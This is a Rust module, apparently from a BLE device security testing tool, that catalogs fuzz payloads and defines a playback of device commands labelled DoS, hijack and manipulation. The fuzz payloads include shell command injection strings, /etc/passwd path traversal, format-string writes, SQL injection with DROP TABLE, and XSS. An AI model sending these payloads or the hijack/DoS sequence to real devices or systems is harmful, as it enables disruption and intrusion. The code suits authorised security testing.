//! Static payload and command catalogs

use std::fmt;
use std::str::FromStr;
use std::time::Duration;

use super::ValidationError;
use crate::ble::gatt::CommandSpec;

/// Named group of fuzz payloads.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum FuzzCategory {
    Overflow,
    SpecialChars,
    FormatString,
    IntegerOverflow,
    UnicodeMalformed,
    SqlInjection,
    XssPayloads,
    ControlChars,
}

impl FuzzCategory {
    /// Every category, in sweep order.
    pub const ALL: [FuzzCategory; 8] = [
        FuzzCategory::Overflow,
        FuzzCategory::SpecialChars,
        FuzzCategory::FormatString,
        FuzzCategory::IntegerOverflow,
        FuzzCategory::UnicodeMalformed,
        FuzzCategory::SqlInjection,
        FuzzCategory::XssPayloads,
        FuzzCategory::ControlChars,
    ];

    pub fn name(&self) -> &'static str {
        match self {
            FuzzCategory::Overflow => "overflow",
            FuzzCategory::SpecialChars => "special-chars",
            FuzzCategory::FormatString => "format-string",
            FuzzCategory::IntegerOverflow => "integer-overflow",
            FuzzCategory::UnicodeMalformed => "unicode-malformed",
            FuzzCategory::SqlInjection => "sql-injection",
            FuzzCategory::XssPayloads => "xss-payloads",
            FuzzCategory::ControlChars => "control-chars",
        }
    }

    pub fn description(&self) -> &'static str {
        match self {
            FuzzCategory::Overflow => "Buffer overflow: growing runs of 'A' plus a cyclic pattern",
            FuzzCategory::SpecialChars => {
                "Shell metacharacters, path traversal, null and newline injection"
            }
            FuzzCategory::FormatString => "printf-style format specifiers",
            FuzzCategory::IntegerOverflow => "Boundary integers and inconsistent length fields",
            FuzzCategory::UnicodeMalformed => "Overlong, truncated and surrogate UTF-8",
            FuzzCategory::SqlInjection => "SQL injection strings",
            FuzzCategory::XssPayloads => "Script injection for web log viewers",
            FuzzCategory::ControlChars => "Terminal control characters",
        }
    }

    /// The payloads of this category, in send order.
    pub fn payloads(&self) -> Vec<CommandSpec> {
        let category = self.name();
        let spec = |id: &str, payload: Vec<u8>| CommandSpec::new(id, payload, category);
        let bytes = |s: &str| s.as_bytes().to_vec();

        match self {
            FuzzCategory::Overflow => {
                let mut specs: Vec<CommandSpec> = [4usize, 16, 32, 64, 128, 256, 512]
                    .iter()
                    .map(|&n| spec(&format!("Overflow_{}B", n), vec![0x41; n]))
                    .collect();
                specs.push(spec("DeBruijn_32B", bytes("Aa0Aa1Aa2Aa3Aa4Aa5Aa6Aa7Aa8Aa9Ab")));
                specs
            }
            FuzzCategory::SpecialChars => vec![
                spec("SemicolonCmd", b"\x01\x00;reboot;\x00".to_vec()),
                spec("PipeCmd", b"\x01\x00|whoami\x00".to_vec()),
                spec("AmpersandCmd", b"\x01\x00&&ls\x00".to_vec()),
                spec("BacktickCmd", b"\x01\x00`id`\x00".to_vec()),
                spec("DollarCmd", b"\x01\x00$(uname)\x00".to_vec()),
                spec("PathTraversal", b"\x01/../../../etc/passwd\x00".to_vec()),
                spec("NullByteInject", b"\x01\x00\x00IGNORED_DATA".to_vec()),
                spec("NewlineInject", b"\x01admin\nadmin:password\n".to_vec()),
            ],
            FuzzCategory::FormatString => vec![
                spec("FormatStr_Basic", bytes("%s%s%s%s%s%s%s%s")),
                spec("FormatStr_Hex", bytes("%x%x%x%x%x%x%x%x")),
                spec("FormatStr_Write", bytes("%n%n%n%n")),
                spec("FormatStr_Long", bytes(&"%08x.".repeat(20))),
                spec("FormatStr_CmdMix", b"\x01%s%x%n\x00".to_vec()),
            ],
            FuzzCategory::IntegerOverflow => vec![
                spec("IntMax_8bit", vec![0xFF, 0xFF, 0xFF, 0xFF]),
                spec("IntMax_16bit", vec![0xFF, 0xFF, 0x00, 0x00]),
                spec("IntMax_32bit", vec![0xFF, 0xFF, 0xFF, 0xFF]),
                spec("IntMin_Signed", vec![0x80, 0x00, 0x00, 0x00]),
                spec("Negative_Max", vec![0xFF, 0xFF, 0xFF, 0x7F]),
                // Length field claims 65535 bytes.
                spec("LenMismatch", vec![0xFF, 0xFF, 0x01, 0x02]),
            ],
            FuzzCategory::UnicodeMalformed => vec![
                spec("UTF8_Overlong", vec![0xC0, 0x80]),
                spec("UTF8_Invalid", vec![0xFF, 0xFE, 0xFD]),
                spec("UTF8_Incomplete", vec![0xC2]),
                spec("UTF8_Surrogate", vec![0xED, 0xA0, 0x80]),
            ],
            FuzzCategory::SqlInjection => vec![
                spec("SQLi_Basic", bytes("' OR '1'='1")),
                spec("SQLi_Union", bytes("' UNION SELECT * FROM users--")),
                spec("SQLi_Drop", bytes("'; DROP TABLE config;--")),
                spec("SQLi_Sleep", bytes("' OR sleep(5)--")),
            ],
            FuzzCategory::XssPayloads => vec![
                spec("XSS_Basic", bytes("<script>alert(1)</script>")),
                spec("XSS_ImgOnerror", bytes("<img src=x onerror=alert(1)>")),
                spec("XSS_SVG", bytes("<svg/onload=alert(1)>")),
            ],
            FuzzCategory::ControlChars => vec![
                spec("BellChar", vec![0x07; 10]),
                spec("BackspaceFlood", vec![0x08; 50]),
                spec("EscapeSequence", bytes("\x1b[H\x1b[2J")),
                spec("CarriageReturn", bytes("\r\n\r\n\r\n")),
            ],
        }
    }
}

impl fmt::Display for FuzzCategory {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.name())
    }
}

impl FromStr for FuzzCategory {
    type Err = ValidationError;

    fn from_str(s: &str) -> Result<Self, Self::Err> {
        FuzzCategory::ALL
            .iter()
            .copied()
            .find(|c| c.name() == s)
            .ok_or_else(|| ValidationError::UnknownCategory(s.to_string()))
    }
}

/// Which categories a fuzz run sweeps.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum FuzzSelection {
    Single(FuzzCategory),
    Full,
}

impl FuzzSelection {
    pub fn categories(&self) -> Vec<FuzzCategory> {
        match self {
            FuzzSelection::Single(category) => vec![*category],
            FuzzSelection::Full => FuzzCategory::ALL.to_vec(),
        }
    }

    pub fn name(&self) -> &'static str {
        match self {
            FuzzSelection::Single(category) => category.name(),
            FuzzSelection::Full => "full",
        }
    }
}

impl FromStr for FuzzSelection {
    type Err = ValidationError;

    fn from_str(s: &str) -> Result<Self, Self::Err> {
        if s == "full" {
            return Ok(FuzzSelection::Full);
        }
        s.parse().map(FuzzSelection::Single)
    }
}

/// The device command set used for playback.
const DEVICE_COMMANDS: [(&str, [u8; 4], &str); 6] = [
    ("dos-brightness", [0x03, 0x00, 0x00, 0x00], "DoS: brightness to zero"),
    ("dos-reset", [0x04, 0x00, 0x00, 0x00], "DoS: reset counters and state"),
    ("hijack-turbo", [0x01, 0x02, 0x00, 0x00], "Hijack: force TURBO mode"),
    ("hijack-eco", [0x01, 0x01, 0x00, 0x00], "Hijack: force ECO mode"),
    ("timer-disable", [0x06, 0x00, 0x00, 0x00], "Manipulation: disable timer"),
    ("brightness-max", [0x03, 0xFF, 0x00, 0x00], "Manipulation: brightness to 255"),
];

/// Order and trailing delays of the `full` playback.
const FULL_SEQUENCE: [(&str, u64); 6] = [
    ("hijack-eco", 2),
    ("brightness-max", 2),
    ("hijack-turbo", 2),
    ("dos-brightness", 2),
    ("timer-disable", 2),
    ("dos-reset", 1),
];

/// Look up a device command by name.
pub fn device_command(name: &str) -> Result<CommandSpec, ValidationError> {
    DEVICE_COMMANDS
        .iter()
        .find(|(id, _, _)| *id == name)
        .map(|(id, payload, description)| CommandSpec::new(*id, payload.to_vec(), *description))
        .ok_or_else(|| ValidationError::UnknownCommand(name.to_string()))
}

/// Names of all device commands, in catalog order.
pub fn device_command_names() -> Vec<&'static str> {
    DEVICE_COMMANDS.iter().map(|(id, _, _)| *id).collect()
}

/// One step of a fixed playback sequence.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct PlaybackStep {
    pub command: CommandSpec,
    /// Pause after the command settles.
    pub delay: Duration,
}

/// Resolve `full` or a single command name into a playback sequence.
pub fn playback_sequence(name: &str) -> Result<Vec<PlaybackStep>, ValidationError> {
    if name == "full" {
        return FULL_SEQUENCE
            .iter()
            .map(|(id, delay)| {
                Ok(PlaybackStep {
                    command: device_command(id)?,
                    delay: Duration::from_secs(*delay),
                })
            })
            .collect();
    }
    Ok(vec![PlaybackStep {
        command: device_command(name)?,
        delay: Duration::ZERO,
    }])
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_category_sizes() {
        let sizes: Vec<(&str, usize)> = FuzzCategory::ALL
            .iter()
            .map(|c| (c.name(), c.payloads().len()))
            .collect();
        assert_eq!(
            sizes,
            vec![
                ("overflow", 8),
                ("special-chars", 8),
                ("format-string", 5),
                ("integer-overflow", 6),
                ("unicode-malformed", 4),
                ("sql-injection", 4),
                ("xss-payloads", 3),
                ("control-chars", 4),
            ]
        );
    }

    #[test]
    fn test_overflow_payloads() {
        let payloads = FuzzCategory::Overflow.payloads();
        assert_eq!(payloads[0].id, "Overflow_4B");
        assert_eq!(payloads[0].payload, vec![0x41; 4]);
        assert_eq!(payloads[6].payload.len(), 512);
        assert_eq!(payloads[7].payload.len(), 32);
        assert!(payloads.iter().all(|p| p.description == "overflow"));
    }

    #[test]
    fn test_format_string_long() {
        let payloads = FuzzCategory::FormatString.payloads();
        let long = payloads.iter().find(|p| p.id == "FormatStr_Long").unwrap();
        assert_eq!(long.payload.len(), 100);
    }

    #[test]
    fn test_selection_parsing() {
        assert_eq!("full".parse::<FuzzSelection>().unwrap(), FuzzSelection::Full);
        assert_eq!(
            "sql-injection".parse::<FuzzSelection>().unwrap(),
            FuzzSelection::Single(FuzzCategory::SqlInjection)
        );
        assert!(matches!(
            "heap-spray".parse::<FuzzSelection>(),
            Err(ValidationError::UnknownCategory(_))
        ));
        assert_eq!(FuzzSelection::Full.categories().len(), 8);
    }

    #[test]
    fn test_full_playback_sequence() {
        let steps = playback_sequence("full").unwrap();
        let ids: Vec<&str> = steps.iter().map(|s| s.command.id.as_str()).collect();
        assert_eq!(
            ids,
            vec![
                "hijack-eco",
                "brightness-max",
                "hijack-turbo",
                "dos-brightness",
                "timer-disable",
                "dos-reset"
            ]
        );
        assert_eq!(steps[0].command.payload, vec![0x01, 0x01, 0x00, 0x00]);
        assert_eq!(steps[5].delay, Duration::from_secs(1));
    }

    #[test]
    fn test_single_command_and_unknown() {
        let steps = playback_sequence("dos-brightness").unwrap();
        assert_eq!(steps.len(), 1);
        assert_eq!(steps[0].command.payload, vec![0x03, 0x00, 0x00, 0x00]);
        assert!(matches!(
            playback_sequence("self-destruct"),
            Err(ValidationError::UnknownCommand(_))
        ));
        assert_eq!(device_command_names().len(), 6);
    }
}
